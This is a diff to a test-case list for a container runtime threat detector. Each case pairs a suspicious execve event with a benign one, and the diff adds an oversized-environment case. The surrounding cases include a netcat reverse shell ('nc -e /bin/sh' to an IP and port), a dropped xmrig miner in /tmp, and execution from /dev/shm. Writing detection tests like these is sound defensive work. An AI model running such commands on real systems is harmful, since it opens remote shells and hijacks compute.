@@ -70,6 +70,8 @@ CASES: list[tuple[str, Event, Event]] = [
     ("Drop and execute new binary in container",
      execve("/tmp/xmrig", is_exe_upper_layer=True), execve("/usr/bin/xmrig")),
     ("Execution from /dev/shm", execve("/dev/shm/payload"), execve("/usr/bin/payload")),
+    ("Environment too large to inspect", execve("/bin/true", env_too_large=True),
+     execve("/bin/true")),
     ("Netcat remote code execution in container",
      execve("/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
      execve("/bin/nc", "nc", "-z", "10.0.0.1", "80")),
